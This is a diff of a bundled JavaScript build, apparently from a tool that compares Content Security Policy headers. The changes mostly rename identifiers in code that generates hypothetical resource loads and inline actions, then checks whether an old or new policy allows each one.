+function textsOf3(source, setting12) {
+  if (source.kind === "keyword") return urlsOfSelf(setting12.document, setting12);
   if (source.kind === "scheme") {
-    return schemesOf(source.scheme, setting10).flatMap((scheme) => urlsOfScheme(scheme, setting10));
+    return schemesOf(source.scheme, setting12).flatMap((scheme) => urlsOfScheme(scheme, setting12));
   }
   if (source.kind !== "host") return [];
   if (isStar(source)) {
-    const schemes2 = ["https", "http", "wss", "ws", setting10.document.origin.scheme];
-    return [.../* @__PURE__ */ new Set([...schemes2, "data"])].flatMap((scheme) => urlsOfScheme(scheme, setting10));
+    const schemes2 = ["https", "http", "wss", "ws", setting12.document.origin.scheme];
+    return [.../* @__PURE__ */ new Set([...schemes2, "data"])].flatMap((scheme) => urlsOfScheme(scheme, setting12));
   }
-  const schemes = schemesOf(source.scheme ?? setting10.document.origin.scheme, setting10);
+  const schemes = schemesOf(source.scheme ?? setting12.document.origin.scheme, setting12);
   return schemes.flatMap(
-    (scheme) => hostsOf(source, setting10.names, setting10.crossed).flatMap(
-      (host) => portsOf(source, scheme, setting10).flatMap(
-        (port) => pathsOf2(source, setting10).map((path) => `${scheme}://${host}${port}${path}`)
+    (scheme) => hostsOf(source, setting12.names, setting12.crossed).flatMap(
+      (host) => portsOf(source, scheme, setting12).flatMap(
+        (port) => pathsOf2(source, setting12).map((path) => `${scheme}://${host}${port}${path}`)
       )
     )
   );
 }
-function schemesOf(named9, setting10) {
-  const webkit = setting10.document.engine === "webkit";
-  if (named9 === "http") return ["https", "http"];
-  if (named9 === "ws") return webkit ? ["wss", "ws", "https", "http"] : ["wss", "ws"];
-  if (named9 === "wss") return webkit ? ["wss", "https"] : ["wss"];
-  return [named9];
+function schemesOf(named10, setting12) {
+  const webkit = setting12.document.engine === "webkit";
+  if (named10 === "http") return ["https", "http"];
+  if (named10 === "ws") return webkit ? ["wss", "ws", "https", "http"] : ["wss", "ws"];
+  if (named10 === "wss") return webkit ? ["wss", "https"] : ["wss"];
+  return [named10];
 }
-function urlsOfScheme(scheme, setting10) {
-  const { names: names2, document } = setting10;
-  const file2 = names2.fileIn("/", EXTENSIONS2[setting10.class] ?? "html");
-  if (scheme === "data") return [DATA_URLS[setting10.class] ?? "data:text/plain,x"];
+function urlsOfScheme(scheme, setting12) {
+  const { names: names3, document } = setting12;
+  const file2 = names3.fileIn("/", EXTENSIONS[setting12.class] ?? "html");
+  if (scheme === "data") return [DATA_URLS[setting12.class] ?? "data:text/plain,x"];
   if (scheme === "blob") return [`blob:${originText(document)}/6ba7b810-9dad-11d1-80b4-00c04fd430c8`];
-  if (!isNetwork(scheme)) return [`${scheme}://localhost${file2}`, `${scheme}://${names2.evilHost}${file2}`];
-  const hosts = setting10.crossed ? [names2.evilHost, ...names2.hosts] : [names2.evilHost];
-  const ports = setting10.crossed ? names2.ports.map((port) => `:${port}`) : [];
+  if (!isNetwork(scheme)) return [`${scheme}://localhost${file2}`, `${scheme}://${names3.evilHost}${file2}`];
+  const hosts = setting12.crossed ? [names3.evilHost, ...names3.hosts] : [names3.evilHost];
+  const ports = setting12.crossed ? names3.ports.map((port) => `:${port}`) : [];
   return hosts.flatMap(
-    (host) => ["", `:${names2.oddPort}`, ...ports].map((port) => `${scheme}://${host}${port}${file2}`)
+    (host) => ["", `:${names3.oddPort}`, ...ports].map((port) => `${scheme}://${host}${port}${file2}`)
   );
 }
-function urlsOfSelf(document, setting10) {
+function urlsOfSelf(document, setting12) {
   const { scheme, host } = document.origin;
-  const file2 = setting10.names.fileIn("/", EXTENSIONS2[setting10.class] ?? "html");
+  const file2 = setting12.names.fileIn("/", EXTENSIONS[setting12.class] ?? "html");
   const schemes = isNetwork(scheme) ? [scheme, "https", "wss", "ws"] : [scheme];
   const own = `${originText(document)}${file2}`;
   return [.../* @__PURE__ */ new Set([own, ...schemes.map((each) => `${each}://${host}${file2}`)])];
 }
-function hostsOf(source, names2, crossed) {
+function hostsOf(source, names3, crossed) {
   if (!source.wildcard) return [source.host];
-  const child = source.host === "" ? names2.evilHost : names2.childOf(source.host);
+  const child = source.host === "" ? names3.evilHost : names3.childOf(source.host);
   const fresh = child === void 0 ? [] : [child];
   if (!crossed) return fresh;
-  const named9 = names2.hosts.flatMap((host) => [host, names2.childOf(host) ?? host]);
-  return [...fresh, ...named9.filter((host) => source.host === "" || host.endsWith(`.${source.host}`))];
+  const named10 = names3.hosts.flatMap((host) => [host, names3.childOf(host) ?? host]);
+  return [...fresh, ...named10.filter((host) => source.host === "" || host.endsWith(`.${source.host}`))];
 }
-function portsOf(source, scheme, setting10) {
+function portsOf(source, scheme, setting12) {
   if (source.port === null) return [""];
   if (source.port === "any") {
-    const named9 = setting10.crossed ? setting10.names.ports.map((port) => `:${port}`) : [];
-    return ["", `:${setting10.names.oddPort}`, ...named9];
+    const named10 = setting12.crossed ? setting12.names.ports.map((port) => `:${port}`) : [];
+    return ["", `:${setting12.names.oddPort}`, ...named10];
   }
   const secure = scheme === "https" || scheme === "wss";
   return source.port === 80 && secure ? ["", ":80"] : [`:${source.port}`];
 }
-function pathsOf2(source, setting10) {
-  const extension = EXTENSIONS2[setting10.class] ?? "html";
+function pathsOf2(source, setting12) {
+  const extension = EXTENSIONS[setting12.class] ?? "html";
   if (source.path && !source.path.prefix) return [source.path.raw];
   const folder = source.path?.raw ?? "/";
-  const fresh = setting10.names.fileIn(folder, extension);
-  if (!setting10.crossed) return [fresh];
-  const named9 = setting10.names.paths.map(
-    (path) => path.endsWith("/") ? setting10.names.fileIn(path, extension) : path
+  const fresh = setting12.names.fileIn(folder, extension);
+  if (!setting12.crossed) return [fresh];
+  const named10 = setting12.names.paths.map(
+    (path) => path.endsWith("/") ? setting12.names.fileIn(path, extension) : path
   );
-  return [fresh, ...named9];
+  return [fresh, ...named10];
 }
 function originText(document) {
   const { scheme, host, port } = document.origin;
@@ -30619,7 +33594,7 @@ function originText(document) {
 function isNetwork(scheme) {
   return scheme === "http" || scheme === "https" || scheme === "ws" || scheme === "wss";
 }
-var EXTENSIONS2 = {
+var EXTENSIONS = {
   script: "js",
   worker: "js",
   connect: "json",
@@ -30642,17 +33617,17 @@ var DATA_URLS = {
 };
 
 // src/compare/csp/load-attempts.ts
-function* loadAttempts(loadClass, page, document, names2) {
+function* loadAttempts(loadClass, page, document, names3) {
   const chains = loadClass === "object" ? [LOAD_CHAINS.object, NESTED_CHAIN] : [LOAD_CHAINS[loadClass]];
   const governed = page.policies.flatMap((policy) => chains.map((chain) => governing(policy, chain)));
   const lists = loadClass === "prefetch" ? listsForPrefetch(page) : [...new Set(governed)].filter((list) => list !== void 0);
   const crossed = page.policies.length > 1 || loadClass === "object" && lists.length > 1;
-  const setting10 = { class: loadClass, document, names: names2, crossed };
+  const setting12 = { class: loadClass, document, names: names3, crossed };
   const strict = lists.some((list) => list.keywords.has("'strict-dynamic'"));
   const free = governed.length === 0 || governed.includes(void 0) || strict;
   const ideas = function* () {
-    if (free) yield* anyUrls(setting10);
-    for (const list of lists) for (const source of list.urlSources) yield* urlsOf(source, setting10);
+    if (free) yield* anyUrls(setting12);
+    for (const list of lists) for (const source of list.urlSources) yield* urlsOf(source, setting12);
   };
   for (const idea of ideas()) {
     const url = fetchable(idea.url, loadClass, document);
@@ -30663,7 +33638,7 @@ function* loadAttempts(loadClass, page, document, names2) {
     }
   }
   for (const { nonce, integrity } of credentialsOf(loadClass, lists, crossed)) {
-    for (const idea of crossed ? ideas() : anyUrls(setting10)) {
+    for (const idea of crossed ? ideas() : anyUrls(setting12)) {
       const url = fetchable(idea.url, loadClass, document);
       if (!url) continue;
       const held2 = { extent: "none", target: credential(nonce, integrity) };
@@ -30700,12 +33675,12 @@ function* variantsOf(loadClass, url, strict, crossed) {
 }
 
 // src/compare/csp/attempts.ts
-function* attemptsOn(page, document, names2) {
+function* attemptsOn(page, document, names3) {
   yield* inlineAttempts(page);
   for (const loadClass of Object.keys(LOAD_CHAINS)) {
-    yield* loadAttempts(loadClass, page, document, names2);
+    yield* loadAttempts(loadClass, page, document, names3);
   }
-  yield* wordAttempts(page, names2);
+  yield* wordAttempts(page, names3);
 }
 function* inlineAttempts(page) {
   const nonces = [null, ...wordsOf4(page, (list) => list.nonces)];
@@ -30737,13 +33712,13 @@ var SANDBOX_TOKENS = [
   "allow-presentation",
   "allow-storage-access-by-user-activation"
 ];
-function* wordAttempts(page, names2) {
+function* wordAttempts(page, names3) {
   yield plain4({ kind: "compile", class: "eval" });
   yield plain4({ kind: "compile", class: "wasm" });
   for (const token2 of SANDBOX_TOKENS) yield plain4({ kind: "escape", class: "sandbox", token: token2 });
   yield plain4({ kind: "sink", class: "trusted-types" });
-  const named9 = page.policies.flatMap((policy) => policy.get("trusted-types")?.words ?? []);
-  for (const name of [names2.policyName, ...named9.filter((word2) => /^[A-Za-z0-9#=_/@.%-]+$/.test(word2))]) {
+  const named10 = page.policies.flatMap((policy) => policy.get("trusted-types")?.words ?? []);
+  for (const name of [names3.policyName, ...named10.filter((word2) => /^[A-Za-z0-9#=_/@.%-]+$/.test(word2))]) {
     yield plain4({ kind: "create-policy", class: "trusted-types", name, again: false });
     yield plain4({ kind: "create-policy", class: "trusted-types", name, again: true });
   }
@@ -30763,7 +33738,7 @@ function wordsOf4(page, pick2) {
 }
 
 // src/compare/csp/names.ts
-function namesIn4(pages) {
+function namesIn6(pages) {
   const sources = pages.flatMap(hostSourcesOf);
   const hosts = new Set(sources.map((source) => source.host).filter((host) => host !== ""));
   for (const page of pages) hosts.add(parseTarget(page.grant.document)?.host ?? "");
@@ -30810,9 +33785,9 @@ function childOf(parent, hosts) {
     );
   }
   if (labels.length > 3) return void 0;
-  const missing = 4 - labels.length;
+  const missing2 = 4 - labels.length;
   for (let n4 = 10; n4 < 250; n4++) {
-    const host = `${`${n4}.`.repeat(missing)}${parent}`;
+    const host = `${`${n4}.`.repeat(missing2)}${parent}`;
     if (!hosts.has(host)) return host;
   }
   return void 0;
@@ -30834,14 +33809,14 @@ function parsePage(grant) {
   const own = new Set(grant.own);
   const texts = grant.header.split(",");
   if (texts.length > CSP_LIMITS.policies) return void 0;
-  const policies = texts.map((text2) => parsePolicy(text2, own, grant.engine));
+  const policies = texts.map((text3) => parsePolicy(text3, own, grant.engine));
   const sources = policies.flatMap((policy) => [...policy.values()].map((list) => list.words.length));
   if (sources.reduce((sum, count) => sum + count, 0) > CSP_LIMITS.sources) return void 0;
   return { grant, policies: policies.filter((policy) => policy.size > 0) };
 }
-function parsePolicy(text2, own, engine) {
+function parsePolicy(text3, own, engine) {
   const policy = /* @__PURE__ */ new Map();
-  for (const directive2 of text2.split(";")) {
+  for (const directive2 of text3.split(";")) {
     if (/[^\x00-\x7f]/.test(directive2)) continue;
     const [name, ...words3] = directive2.split(WHITESPACE).filter((word2) => word2 !== "");
     if (name === void 0 || policy.has(name.toLowerCase())) continue;
@@ -30857,13 +33832,13 @@ function search(narrow, wide, work) {
   const widePages = wide.map(parsePage);
   const pages = [...narrowPages, ...widePages].filter((page) => page !== void 0);
   if (pages.length < narrow.length + wide.length) return { found: [], complete: false };
-  const names2 = namesIn4(pages);
+  const names3 = namesIn6(pages);
   const refusing = narrowPages.flatMap((page) => withDocument(page));
   const found9 = [];
   let steps = 0;
   for (const { page, document } of widePages.flatMap((each) => withDocument(each))) {
     const cost = costOf(page) + refusing.reduce((sum, each) => sum + costOf(each.page), 0);
-    for (const attempt2 of attemptsOn(page, document, names2)) {
+    for (const attempt2 of attemptsOn(page, document, names3)) {
       steps += cost;
       work.spend(cost);
       if (steps > MOST_STEPS8) return { found: found9, complete: false };
@@ -30912,7 +33887,7 @@ function words2(policy, name) {
   }
   return void 0;
 }
-function has2(list, keyword) {
+function has3(list, keyword) {
   return list.some((word2) => word2.toLowerCase() === keyword);
 }
 function namesNonce(list, grant, nonce) {
@@ -30926,7 +33901,7 @@ function namesHash(list, grant, hash) {
   const spelled = (word2) => word2.replace(/^'?(sha\d+)/i, (algorithm) => algorithm.toLowerCase()).replace(/'/g, "");
   const wanted = standardAlphabet(spelled(hash));
   return list.some(
-    (word2) => HASH2.test(word2) && !grant.own.includes(word2) && standardAlphabet(spelled(word2)) === wanted
+    (word2) => HASH3.test(word2) && !grant.own.includes(word2) && standardAlphabet(spelled(word2)) === wanted
   );
 }
 function standardAlphabet(hash) {
@@ -30934,10 +33909,10 @@ function standardAlphabet(hash) {
   return `${algorithm}-${digest.join("+").replaceAll("_", "/")}`;
 }
 var NONCE2 = /^'nonce-[\w+/-]+={0,2}'$/i;
-var HASH2 = /^'sha(?:256|384|512)-(?=[\w+/-])(?:[\w+/-]{4})*(?:[\w+/-]{2}={0,2}|[\w+/-]{3}=?)?'$/i;
+var HASH3 = /^'sha(?:256|384|512)-(?=[\w+/-])(?:[\w+/-]{4})*(?:[\w+/-]{2}={0,2}|[\w+/-]{3}=?)?'$/i;
 function anyText(list, script) {
-  if (!has2(list, "'unsafe-inline'") || list.some((word2) => NONCE2.test(word2) || HASH2.test(word2))) return false;
-  return !script || !has2(list, "'strict-dynamic'");
+  if (!has3(list, "'unsafe-inline'") || list.some((word2) => NONCE2.test(word2) || HASH3.test(word2))) return false;
+  return !script || !has3(list, "'strict-dynamic'");
 }
 
 // src/compare/csp/plain-source.ts
@@ -30954,9 +33929,9 @@ function wordFits(word2, directive2, grant, act) {
     return new RegExp(`^(?:${schemeChoices(bare, grant).map(literal2).join("|")}):`).test(url);
   return hostExpressions(word2, page, grant, act.redirected).some((expression) => expression.test(url));
 }
-function normalUrl(text2) {
-  const url = new URL(text2);
-  if (url.protocol === "data:" || url.protocol === "blob:") return text2;
+function normalUrl(text3) {
+  const url = new URL(text3);
+  if (url.protocol === "data:" || url.protocol === "blob:") return text3;
   const port = url.port === "" ? usualPort(url.protocol.slice(0, -1)) : url.port;
   return `${url.protocol}//${url.hostname.toLowerCase()}:${port}${decoded3(url.pathname)}`;
 }
@@ -31017,11 +33992,11 @@ function portChoices(port, scheme, upgrade) {
 function pathExpression(path) {
   const plainPath3 = path?.split(/[?#]/, 1)[0] ?? "";
   if (plainPath3 === "" || plainPath3 === "/") return "";
-  const text2 = literal2(decoded3(plainPath3));
-  return plainPath3.endsWith("/") ? `${text2}.*` : `${text2}$`;
+  const text3 = literal2(decoded3(plainPath3));
+  return plainPath3.endsWith("/") ? `${text3}.*` : `${text3}$`;
 }
-function literal2(text2) {
-  return text2.replace(/[^A-Za-z0-9]/g, "\\$&");
+function literal2(text3) {
+  return text3.replace(/[^A-Za-z0-9]/g, "\\$&");
 }
 
 // src/compare/csp/second-matcher.ts
@@ -31038,64 +34013,64 @@ function permits(grant, act) {
   const policies = grant.header === null ? [] : grant.header.split(",");
   if (act.kind === "report") {
     return policies.some(
-      (text2) => [words2(text2, "report-uri"), words2(text2, "report-to")].flat().includes(act.collector)
+      (text3) => [words2(text3, "report-uri"), words2(text3, "report-to")].flat().includes(act.collector)
     );
   }
-  return policies.every((text2) => permittedBy(text2, grant, act));
+  return policies.every((text3) => permittedBy(text3, grant, act));
 }
-function permittedBy(text2, grant, act) {
+function permittedBy(text3, grant, act) {
   switch (act.kind) {
     case "load":
-      return loadPermitted(text2, grant, act);
+      return loadPermitted(text3, grant, act);
     case "inline": {
       const script = act.class === "inline-script";
-      const list = script ? words2(text2, "script-src-elem") ?? words2(text2, "script-src") ?? words2(text2, "default-src") : words2(text2, "style-src-elem") ?? words2(text2, "style-src") ?? words2(text2, "default-src");
+      const list = script ? words2(text3, "script-src-elem") ?? words2(text3, "script-src") ?? words2(text3, "default-src") : words2(text3, "style-src-elem") ?? words2(text3, "style-src") ?? words2(text3, "default-src");
       return list === void 0 || namesNonce(list, grant, act.nonce) || namesHash(list, grant, act.hash) || anyText(list, script);
     }
     case "attribute": {
-      const list = attributeList(text2, act.class);
+      const list = attributeList(text3, act.class);
       if (list === void 0 || anyText(list, act.class !== "inline-style")) return true;
-      return has2(list, "'unsafe-hashes'") && namesHash(list, grant, act.hash);
+      return has3(list, "'unsafe-hashes'") && namesHash(list, grant, act.hash);
     }
     case "compile": {
-      const list = words2(text2, "script-src") ?? words2(text2, "default-src");
-      if (list === void 0 || has2(list, "'unsafe-eval'")) return true;
-      return act.class === "wasm" && (grant.engine === "webkit" || has2(list, "'wasm-unsafe-eval'"));
+      const list = words2(text3, "script-src") ?? words2(text3, "default-src");
+      if (list === void 0 || has3(list, "'unsafe-eval'")) return true;
+      return act.class === "wasm" && (grant.engine === "webkit" || has3(list, "'wasm-unsafe-eval'"));
     }
     case "escape": {
-      const list = words2(text2, "sandbox");
-      return list === void 0 || has2(list, act.token);
+      const list = words2(text3, "sandbox");
+      return list === void 0 || has3(list, act.token);
     }
     case "sink":
-      return !has2(words2(text2, "require-trusted-types-for") ?? [], "'script'");
+      return !has3(words2(text3, "require-trusted-types-for") ?? [], "'script'");
     case "create-policy": {
-      const list = words2(text2, "trusted-types");
+      const list = words2(text3, "trusted-types");
       if (list === void 0) return true;
-      return (list.includes(act.name) || list.includes("*")) && (!act.again || has2(list, "'allow-duplicates'"));
+      return (list.includes(act.name) || list.includes("*")) && (!act.again || has3(list, "'allow-duplicates'"));
     }
     case "clear-text":
-      return words2(text2, "upgrade-insecure-requests") === void 0;
+      return words2(text3, "upgrade-insecure-requests") === void 0;
     case "report":
       return false;
   }
 }
-function attributeList(text2, what) {
+function attributeList(text3, what) {
   const own = {
     "inline-script": "script-src-elem",
     "inline-handler": "script-src-attr",
     "inline-style": "style-src-attr"
   };
   const family = what === "inline-style" ? "style-src" : "script-src";
-  return words2(text2, own[what]) ?? words2(text2, family) ?? words2(text2, "default-src");
+  return words2(text3, own[what]) ?? words2(text3, family) ?? words2(text3, "default-src");
 }
-function loadPermitted(text2, grant, act) {
+function loadPermitted(text3, grant, act) {
   const fits4 = (list, directive2) => list === void 0 || list.some((word2) => !grant.own.includes(word2) && wordFits(word2, directive2, grant, act));
-  const first = (...names2) => {
-    const directive2 = names2.find((name) => words2(text2, name) !== void 0) ?? "";
-    return { directive: directive2, list: words2(text2, directive2) };
+  const first = (...names3) => {
+    const directive2 = names3.find((name) => words2(text3, name) !== void 0) ?? "";
+    return { directive: directive2, list: words2(text3, directive2) };
   };
-  const asked2 = (...names2) => {
-    const { directive: directive2, list } = first(...names2);
+  const asked3 = (...names3) => {
+    const { directive: directive2, list } = first(...names3);
     return fits4(list, directive2);
   };
   switch (act.class) {
@@ -31103,7 +34078,7 @@ function loadPermitted(text2, grant, act) {
       const { directive: directive2, list } = first("script-src-elem", "script-src", "default-src");
       if (list === void 0) return true;
       if (namesNonce(list, grant, act.nonce) || namesHash(list, grant, act.integrity)) return true;
-      return has2(list, "'strict-dynamic'") ? !act.parserInserted : fits4(list, directive2);
+      return has3(list, "'strict-dynamic'") ? !act.parserInserted : fits4(list, directive2);
     }
     case "style": {
       const { directive: directive2, list } = first("style-src-elem", "style-src", "default-src");
@@ -31111,24 +34086,24 @@ function loadPermitted(text2, grant, act) {
     }
     case "worker": {
       const { directive: directive2, list } = first("worker-src", "child-src", "script-src", "default-src");
-      return fits4(list, directive2) || has2(list ?? [], "'strict-dynamic'");
+      return fits4(list, directive2) || has3(list ?? [], "'strict-dynamic'");
     }
     case "object":
-      return asked2("object-src", "default-src") && (!act.nested || asked2("frame-src", "child-src", "default-src"));
+      return asked3("object-src", "default-src") && (!act.nested || asked3("frame-src", "child-src", "default-src"));
     case "prefetch":
-      return words2(text2, "default-src") === void 0 || LISTS_OF_URLS.some((name) => words2(text2, name) !== void 0 && fits4(words2(text2, name), name));
+      return words2(text3, "default-src") === void 0 || LISTS_OF_URLS.some((name) => words2(text3, name) !== void 0 && fits4(words2(text3, name), name));
     case "frame":
-      return asked2("frame-src", "child-src", "default-src");
+      return asked3("frame-src", "child-src", "default-src");
     case "form":
-      return asked2("form-action");
+      return asked3("form-action");
     case "base":
-      return asked2("base-uri");
+      return asked3("base-uri");
     case "ancestor":
-      return asked2("frame-ancestors");
+      return asked3("frame-ancestors");
     case "image":
-      return asked2("img-src", "default-src");
+      return asked3("img-src", "default-src");
     default:
-      return asked2(`${act.class}-src`, "default-src");
+      return asked3(`${act.class}-src`, "default-src");
   }
 }
 var LISTS_OF_URLS = "default-src script-src script-src-elem script-src-attr style-src style-src-elem style-src-attr img-src font-src media-src connect-src frame-src child-src worker-src manifest-src object-src".split(
@@ -31189,8 +34164,8 @@ function attributeText(what, only) {
   return `<p style="${only ?? "position:fixed"}">`;
 }
 function loadText(act) {
-  const text2 = `${loadMarkup(act, act.url)}`;
-  return act.redirected ? `${text2}, reached through a redirect` : text2;
+  const text3 = `${loadMarkup(act, act.url)}`;
+  return act.redirected ? `${text3}, reached through a redirect` : text3;
 }
 function loadMarkup(act, url) {
   const extra = `${act.nonce === null ? "" : ` nonce="${act.nonce}"`}${act.integrity === null ? "" : ` integrity="${act.integrity}"`}`;
@@ -31233,7 +34208,7 @@ var cspComparison = {
   compare(granted, head, work) {
     const base = granted ?? [];
     const widened2 = compareOneWay(baselineFor(base, head), head, work);
-    const narrowed = head.length === 0 ? NOTHING7 : compareOneWay(head, base, work);
+    const narrowed = head.length === 0 ? NOTHING8 : compareOneWay(head, base, work);
     return {
       changes: [
         ...group(widened2.all).map((each) => describe(each, "widened", base, head)),
@@ -31244,7 +34219,7 @@ var cspComparison = {
   },
   allows
 };
-var NOTHING7 = { all: [], gaps: [] };
+var NOTHING8 = { all: [], gaps: [] };
 var BASELINE = "default-src 'self' ipc: http://ipc.localhost asset: http://asset.localhost data: blob:";
 function baselineFor(base, head) {
   if (base.length > 0) return base;
@@ -31259,12 +34234,12 @@ function compareOneWay(narrow, wide, work) {
       const [narrowSays, wideSays] = [meaning(sides.narrow), meaning(sides.wide)];
       if (narrowSays === wideSays) continue;
       const key = JSON.stringify([narrowSays, wideSays]);
-      const known6 = searches.get(key);
-      const result2 = known6 ?? search(sides.narrow, sides.wide, work);
+      const known7 = searches.get(key);
+      const result2 = known7 ?? search(sides.narrow, sides.wide, work);
       searches.set(key, result2);
       all.push(...result2.found.map((found9) => ({ platform, page: sides.page, found: found9 })));
-      if (!result2.complete && !known6)
-        gaps.push(tooLarge(placeOf6(sides.wide, "") ?? placeOf6(sides.narrow, ""), wideSays));
+      if (!result2.complete && !known7)
+        gaps.push(tooLarge2(placeOf6(sides.wide, "") ?? placeOf6(sides.narrow, ""), wideSays));
     }
   }
   return { all, gaps };
@@ -31275,7 +34250,7 @@ function on2(platform, grants) {
 function meaning(grants) {
   return JSON.stringify(grants.map(({ document, engine, header, own }) => [document, engine, header, own]));
 }
-function tooLarge(place, wide) {
+function tooLarge2(place, wide) {
   return gapAt(place ?? topOf(""), {
     kind: "truncated",
     rests: wordsOf("too large", wide),
@@ -31287,19 +34262,19 @@ function describe({ main, also, platforms, targets: targets2, extent }, directio
   const widened2 = direction === "widened";
   const isNew2 = base.length === 0;
   const [allowedName, refusedName] = [allowedBy?.directive ?? "", refusedBy?.directive ?? ""];
-  const names2 = widened2 ? [allowedName, refusedName, ""] : [refusedName, allowedName, ""];
+  const names3 = widened2 ? [allowedName, refusedName, ""] : [refusedName, allowedName, ""];
   return {
     ...newsOf(attempt2.act, widened2 ? absenceOf(allowing) : null),
     domain: "csp",
     direction,
-    at: placeOfChange(grantsFor(main, base), grantsFor(main, head), names2),
+    at: placeOfChange(grantsFor(main, base), grantsFor(main, head), names3),
     witness: witnessOf(attempt2.act, main.platform, allowing.grant.document, allowedName),
     allowed: stanceOfAllowing(allowing, allowedBy),
     refused: stanceOfRefusing(isNew2 ? void 0 : refusing, refusedBy),
     identity: JSON.stringify([
       direction,
       attempt2.act.class,
-      kindOf3(attempt2.act),
+      kindOf4(attempt2.act),
       allowedName,
       refusedName,
       extent,
@@ -31320,19 +34295,19 @@ function absenceOf({ policies, grant }) {
 function newsOf({ class: what }, absence) {
   return absence === null ? allowanceOf(what) : { rule: "csp/policy-removed", class: what, absence };
 }
-function placeOfChange(base, head, names2) {
-  const [was, is] = [placeIn(base, names2), placeIn(head, names2)];
+function placeOfChange(base, head, names3) {
+  const [was, is] = [placeIn(base, names3), placeIn(head, names3)];
   const still = head.flatMap(({ beside }) => beside).find(({ path }) => path === was?.path);
   const isNowhere = head.every(({ header }) => header === null);
   if (isNowhere && was !== void 0 && is !== void 0 && was.path !== is.path) return still ?? is;
   return is ?? was ?? topOf("");
 }
 function grantsFor({ platform, page }, grants) {
-  const isOther = (grant) => Number(grant.page.path !== page.path);
-  return on2(platform, grants).toSorted((a3, b5) => isOther(a3) - isOther(b5));
+  const isOther2 = (grant) => Number(grant.page.path !== page.path);
+  return on2(platform, grants).toSorted((a3, b5) => isOther2(a3) - isOther2(b5));
 }
-function placeIn(grants, names2) {
-  for (const name of names2) {
+function placeIn(grants, names3) {
+  for (const name of names3) {
     const place = placeOf6(grants, name);
     if (place) return place;
   }
@@ -31341,7 +34316,7 @@ function placeIn(grants, names2) {
 function placeOf6(grants, name) {
   return grants.map((grant) => grant.places.get(name)).find((place) => place !== void 0);
 }
-function kindOf3(act) {
+function kindOf4(act) {
   if (act.kind === "inline") return act.nonce !== null ? "nonce" : act.hash !== null ? "hash" : "";
   if (act.kind === "create-policy") return `${act.name} ${act.again}`;
   return act.kind === "escape" ? act.token : act.kind;
@@ -31376,16 +34351,16 @@ function walkedTogether(a3, b5, keeps, work) {
     for (let number = 0; number < alphabet.size; number += 1) {
       const to = a3.next[first * a3.alphabet.size + (inA[number] ?? 0)] ?? NOWHERE;
       const beside = second === out ? NOWHERE : b5.next[second * b5.alphabet.size + (inB[number] ?? 0)] ?? NOWHERE;
-      next2.push(to === NOWHERE ? NOWHERE : numberOf(to * (out + 1) + (beside === NOWHERE ? out : beside)));
+      next2.push(to === NOWHERE ? NOWHERE : numberOf2(to * (out + 1) + (beside === NOWHERE ? out : beside)));
     }
   }
   return withoutDeadEnds(
     { alphabet, next: Int32Array.from(next2), accepting: Uint8Array.from(accepting) },
     work
   );
-  function numberOf(pair) {
-    const known6 = numbers.get(pair);
-    if (known6 !== void 0) return known6;
+  function numberOf2(pair) {
+    const known7 = numbers.get(pair);
+    if (known7 !== void 0) return known7;
     if (pairs.length >= MOST_STATES3) throw new TooComplex(`more than ${MOST_STATES3} states`);
     numbers.set(pair, pairs.length);
     return pairs.push(pair) - 1;
@@ -31397,16 +34372,16 @@ var RefusedUrlPattern = class extends Error {
 };
 var UnreadUrlPattern = class extends Error {
 };
-function urlTokens(text2, isStrict) {
+function urlTokens(text3, isStrict) {
   const tokens = [];
-  for (let at2 = 0; at2 < text2.length; ) {
-    const { next: next2, ...token2 } = tokenAt2(text2, at2);
+  for (let at2 = 0; at2 < text3.length; ) {
+    const { next: next2, ...token2 } = tokenAt2(text3, at2);
     if (token2.kind === "invalid" && isStrict)
       throw new RefusedUrlPattern(`nothing goes on after ${token2.value}`);
     tokens.push({ ...token2, at: at2 });
     at2 = next2;
   }
-  return [...tokens, { kind: "end", at: text2.length, value: "" }];
+  return [...tokens, { kind: "end", at: text3.length, value: "" }];
 }
 var KINDS2 = {
   "*": "asterisk",
@@ -31415,40 +34390,40 @@ var KINDS2 = {
   "{": "open",
   "}": "close"
 };
-function tokenAt2(text2, at2) {
-  const value = characterAt(text2, at2);
+function tokenAt2(text3, at2) {
+  const value = characterAt(text3, at2);
   const next2 = at2 + value.length;
   const alone = { kind: "invalid", value, next: next2 };
   if (value === "\\") {
-    const escaped3 = characterAt(text2, next2);
+    const escaped3 = characterAt(text3, next2);
     return escaped3 === "" ? alone : { kind: "escaped", value: escaped3, next: next2 + escaped3.length };
   }
   if (value === ":") {
     NAME4.lastIndex = next2;
-    const name = NAME4.exec(text2)?.[0];
+    const name = NAME4.exec(text3)?.[0];
     return name === void 0 ? alone : { kind: "name", value: name, next: next2 + name.length };
   }
   if (value === "(") {
-    const end = endOfRegexp(text2, next2);
-    return end === void 0 ? alone : { kind: "regexp", value: text2.slice(next2, end), next: end + 1 };
+    const end = endOfRegexp(text3, next2);
+    return end === void 0 ? alone : { kind: "regexp", value: text3.slice(next2, end), next: end + 1 };
   }
   return { kind: KINDS2[value] ?? "char", value, next: next2 };
 }
 var NAME4 = /[\p{ID_Start}$_][\p{ID_Continue}$\u200c\u200d]*/uy;
-function endOfRegexp(text2, start) {
+function endOfRegexp(text3, start) {
   let depth = 1;
-  for (let at2 = start; at2 < text2.length; at2 += 1) {
-    const character2 = text2[at2] ?? "";
+  for (let at2 = start; at2 < text3.length; at2 += 1) {
+    const character2 = text3[at2] ?? "";
     if (!isAscii(character2) || at2 === start && character2 === "?") return void 0;
     if (character2 === "\\") {
       at2 += 1;
-      if (at2 >= text2.length || !isAscii(text2[at2] ?? "")) return void 0;
+      if (at2 >= text3.length || !isAscii(text3[at2] ?? "")) return void 0;
     } else if (character2 === ")") {
       depth -= 1;
       if (depth === 0) return at2 > start ? at2 : void 0;
     } else if (character2 === "(") {
       depth += 1;
-      if (text2[at2 + 1] !== "?") return void 0;
+      if (text3[at2 + 1] !== "?") return void 0;
     }
   }
   return void 0;
@@ -31456,8 +34431,8 @@ function endOfRegexp(text2, start) {
 function isAscii(character2) {
   return character2 <= "";
 }
-function characterAt(text2, at2) {
-  const code2 = text2.codePointAt(at2);
+function characterAt(text3, at2) {
+  const code2 = text3.codePointAt(at2);
   return code2 === void 0 ? "" : String.fromCodePoint(code2);
 }
 
@@ -31472,8 +34447,8 @@ var URL_PART_NAMES = [
   "search",
   "hash"
 ];
-function partsOfText(text2, isSpecial) {
-  return new ConstructorParser(text2, isSpecial).parse();
+function partsOfText(text3, isSpecial) {
+  return new ConstructorParser(text3, isSpecial).parse();
 }
 var ConstructorParser = class {
   #text;
@@ -31487,10 +34462,10 @@ var ConstructorParser = class {
   #groups = 0;
   #brackets = 0;
